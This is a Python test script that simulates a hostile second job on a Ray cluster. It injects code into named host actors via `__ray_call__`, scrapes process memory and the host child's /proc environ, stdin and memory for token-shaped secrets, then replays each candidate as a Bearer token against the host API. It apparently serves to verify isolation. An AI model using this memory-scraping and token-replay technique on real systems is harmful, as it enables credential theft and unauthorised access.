"""A second job on the test's Ray cluster (tests/test_ray_backend.py runs it as its own driver
process): it finds the pool's named host actors, runs code inside one with ``__ray_call__`` (the
method Ray adds to every actor) and takes everything secret-shaped from that actor's process, its
attributes, its live objects, its whole writable memory (freed blocks too), its host child's
/proc files and stdin, then calls the host API with each candidate.

Run as a script (``python tests/ray_second_job.py ADDRESS NAME_PREFIX URL``): the function sent into
the actor is ``__main__``'s, so Ray pickles it by value (the node's workers do not import tests/).
Prints one JSON report."""

from __future__ import annotations

import json
import re
import sys
import urllib.error
import urllib.request
from typing import Any

TOKEN_SHAPED = rb"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])"  # backends/base.py: new_token
VERIFIER_SHAPED = rb"sha256:[0-9a-f]{64}"


def inside_the_actor(actor: Any) -> dict[str, Any]:
    """Runs in the host actor's worker process, as its own code would."""
    import gc
    import secrets

    # the control: a token-shaped string this process holds now; the scan must find it
    canary = secrets.token_urlsafe(32).encode()
    shaped = re.compile(TOKEN_SHAPED)
    verifier = re.compile(VERIFIER_SHAPED)
    found: set[bytes] = set()
    seen: dict[str, Any] = {"attributes": sorted(vars(actor)), "objects": 0, "memory_bytes": 0, "host_proc": {}}

    def take(blob: bytes, into: set[bytes] = found) -> None:
        into.update(shaped.findall(blob))
        for v in verifier.findall(blob):
            into.add(v)
            into.add(v[len(b"sha256:"):])

    take(repr(vars(actor)).encode())
    for obj in gc.get_objects():
        seen["objects"] += 1
        if isinstance(obj, (dict, list, tuple)):
            for item in (obj.values() if isinstance(obj, dict) else obj):
                if isinstance(item, str) and 40 <= len(item) <= 200:
                    take(item.encode(errors="replace"))
                elif isinstance(item, bytes) and 40 <= len(item) <= 200:
                    take(item)
    def scan_memory(pid: str, into: set[bytes] = found) -> int:
        """Every private writable mapping of ``pid`` (freed heap blocks included); bytes read."""
        total = 0
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                fields = line.split()
                start, end = (int(x, 16) for x in fields[0].split("-"))
                pathname = fields[5] if len(fields) > 5 else ""
                if "rw" not in fields[1][:2] or fields[1][3] != "p" or (pathname and not pathname.startswith("[")):
                    continue
                if end - start > 1 << 30 or pathname in ("[vvar]", "[vsyscall]"):
                    continue
                try:
                    mem.seek(start)
                    blob = mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                total += len(blob)
                take(blob, into)
        return total

    seen["memory_bytes"] = scan_memory("self")
    proc = getattr(actor, "proc", None)
    if proc is not None:
        pid = proc.pid
        seen["host_pid"] = pid
        for what in ("environ", "fd/0", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    data = fh.read(1 << 16)
                seen["host_proc"][what] = "READ"
                take(data)
            except OSError as exc:
                seen["host_proc"][what] = f"DENIED {exc.errno}"
        # the host is non-dumpable: only a process with CAP_SYS_PTRACE (a worker of root) reads it,
        # and then finds the token in the requests the host received (kept apart: docs/ray.md)
        in_host: set[bytes] = set()
        try:
            seen["host_proc"]["mem"] = f"READ {scan_memory(str(pid), in_host)}"
            seen["in_host_memory"] = sorted(f.decode() for f in in_host)
        except OSError as exc:
            seen["host_proc"]["mem"] = f"DENIED {exc.errno}"
        for pipe in ("stdin", "stdout"):
            stream = getattr(proc, pipe, None)
            transport = getattr(stream, "transport", None) or getattr(stream, "_transport", None)
            seen["host_proc"][pipe] = "closed" if transport is None or transport.is_closing() else "open"
    seen["canary_found"] = canary in found
    found.discard(canary)
    return {"found": sorted(f.decode() for f in found), "seen": seen}


def main(address: str, prefix: str, url: str) -> None:
    import ray

    ray.init(address=address, namespace="a-neighbours-job", log_to_driver=False, include_dashboard=False,
             _node_ip_address="127.0.0.1")
    named = ray.util.list_named_actors(all_namespaces=True)
    ours = [a for a in named if a["name"].startswith(prefix)]
    report: dict[str, Any] = {"named": named, "inside": [], "accepted": []}
    for entry in ours:
        handle = ray.get_actor(entry["name"], namespace=entry["namespace"])
        result: Any = ray.get(handle.__ray_call__.remote(inside_the_actor), timeout=300)
        inside: dict[str, Any] = result
        report["inside"].append(inside)
        for candidate in inside["found"]:
            req = urllib.request.Request(f"{url}/v1/slots", headers={"Authorization": f"Bearer {candidate}"})
            try:
                with urllib.request.urlopen(req, timeout=10) as resp:
                    if resp.status == 200:
                        report["accepted"].append(candidate)
            except (urllib.error.URLError, OSError):
                pass
    ray.shutdown()
    print(json.dumps(report))


if __name__ == "__main__":
    main(*sys.argv[1:4])
